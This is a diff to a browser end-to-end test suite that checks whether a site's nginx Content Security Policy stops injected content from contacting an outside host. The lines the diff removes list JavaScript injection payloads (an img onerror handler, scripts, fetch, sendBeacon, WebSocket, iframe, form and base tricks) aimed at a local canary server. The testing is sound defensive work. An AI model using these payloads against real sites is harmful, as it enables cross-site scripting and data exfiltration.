@@ -1,9 +1,7 @@
 """A real browser and a real nginx with the shipped nginx.conf: what a page there may do."""
 
 import json
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -12,8 +10,10 @@ from playwright.sync_api import Browser, Page
 
 import sites
 from e2e import browsing
+from elsewhere import WAYS, Elsewhere, refusal, smuggled
 from fakes.runpod import A_POD, FakeRunPod
 from tuneyard.site.hosts import Hosts
+from waiting import wait_for
 
 pytestmark = [pytest.mark.browser, pytest.mark.nginx]
 
@@ -32,33 +32,6 @@ ASK = """async ([address, method, body]) => {
 }""".replace("KEY", sites.KEY)
 
 
-class Elsewhere:
-    """A host that nobody named; `asked` are the requests that reach it."""
-
-    def __init__(self) -> None:
-        self.asked: list[str] = []
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(this) -> None:  # noqa: N805
-                self.asked.append(f"{this.command} {this.path}")
-                this.send_response(200)
-                this.send_header("Access-Control-Allow-Origin", "*")
-                this.send_header("Content-Type", "text/html")
-                this.end_headers()
-
-            do_POST = do_OPTIONS = do_GET  # noqa: N815
-
-            def log_message(this, format: str, *args: object) -> None:  # noqa: A002, N805
-                """Quiet."""
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()
-
-    @property
-    def url(self) -> str:
-        return f"http://127.0.0.1:{self.server.server_port}"
-
-
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
     with browsing.browser() as found:
@@ -67,10 +40,8 @@ def browser() -> Iterator[Browser]:
 
 @pytest.fixture
 def elsewhere() -> Iterator[Elsewhere]:
-    found = Elsewhere()
-    yield found
-    found.server.shutdown()
-    found.server.server_close()
+    with Elsewhere() as found:
+        yield found
 
 
 @pytest.fixture
@@ -148,42 +119,28 @@ def test_a_page_elsewhere_gets_nothing_through_it(
     assert list(asked.asked) == []
 
 
-INJECTED = {
-    "a script": "s = document.createElement('script'); s.src = ELSEWHERE; body.append(s)",
-    "a script in the page": "s = document.createElement('script'); s.text = LEAK; body.append(s)",
-    "markup": "body.innerHTML = `<img src=x onerror='${LEAK}'>`",
-    "an attribute": "body.setAttribute('onclick', LEAK); body.click()",
-    "an image": "new Image().src = ELSEWHERE",
-    "a request": "fetch(ELSEWHERE).catch(() => 0)",
-    "a beacon": "navigator.sendBeacon(ELSEWHERE, 'canary')",
-    "a socket": "try { new WebSocket(ELSEWHERE.replace('http', 'ws')) } catch {}",
-    "a frame": "f = document.createElement('iframe'); f.src = ELSEWHERE; body.append(f)",
-    "a style sheet": "l = document.createElement('link'); l.rel = 'stylesheet'; "
-    "l.href = ELSEWHERE; body.append(l)",
-    "a form": "f = document.createElement('form'); f.action = ELSEWHERE; body.append(f); f.submit()",
-    "a base": "b = document.createElement('base'); b.href = ELSEWHERE; document.head.append(b); "
-    "fetch('canary').catch(() => 0)",
-}
-
-
-@pytest.mark.parametrize("what", INJECTED)
+@pytest.mark.parametrize("what", WAYS)
 def test_nothing_that_is_smuggled_in_gets_out(page: Page, elsewhere: Elsewhere, what: str) -> None:
-    refused = page.evaluate(
-        f"""async ELSEWHERE => {{
-          const body = document.body;
-          const LEAK = `fetch("${{ELSEWHERE}}")`;
-          let s, f, l, b;
-          const told = new Promise(tell => {{
-            document.addEventListener("securitypolicyviolation", event =>
-              tell(event.effectiveDirective));
-          }});
-          try {{ {INJECTED[what]} }} catch {{}}
-          return await told;
-        }}""",
-        f"{elsewhere.url}/canary",
-    )
+    refused = page.evaluate(refusal(what), f"{elsewhere.url}/canary")
     assert refused
     assert elsewhere.asked == []
+
+
+@pytest.mark.parametrize("what", WAYS)
+def test_it_would_from_a_page_without_our_policy(
+    browser: Browser, elsewhere: Elsewhere, what: str
+) -> None:
+    with Elsewhere() as lax:
+        page = browser.new_page()
+        page.goto(lax.url)
+        # Later: some lead the page itself away.
+        page.evaluate(
+            f"(ELSEWHERE) => void setTimeout(() => {{ {smuggled(what)} }})",
+            f"{elsewhere.url}/canary",
+        )
+        wait_for(lambda: elsewhere.asked, what="a request elsewhere")
+        page.close()
+    assert "/canary" in elsewhere.asked[0]
 
 
 def test_it_is_shown_in_no_page_of_others(
